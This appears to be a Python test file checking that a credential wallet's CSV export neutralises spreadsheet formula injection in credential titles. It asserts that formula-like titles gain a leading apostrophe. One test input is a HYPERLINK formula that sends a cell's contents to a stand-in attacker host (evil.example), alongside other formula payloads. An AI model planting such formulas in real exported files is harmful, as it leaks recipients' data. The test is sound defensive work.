"""A credential's title is a formula: it must not run in the spreadsheet of who gets it."""

from __future__ import annotations

import csv
import io

from tests.helpers.portfolios import SIGNER, WHOLE, WORDS, part
from wallet.credential import Text
from wallet.exchange import write


def title_of(text: str) -> str:
    """The title in the table, as a spreadsheet reads it."""
    award = type(WHOLE)(id="a", title=(Text(lang="en", text=text),))
    data = write("csv", [part(award)], WORDS, SIGNER).data.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(data, newline=""))
    return row["title"]


def test_a_formula_is_text():
    for attack in ('=HYPERLINK("http://evil.example?"&A1)', "@SUM(1)", "\t=1", " +1"):
        assert title_of(attack).startswith("'")


def test_an_honest_title_is_as_it_was():
    assert title_of("Data = knowledge") == "Data = knowledge"
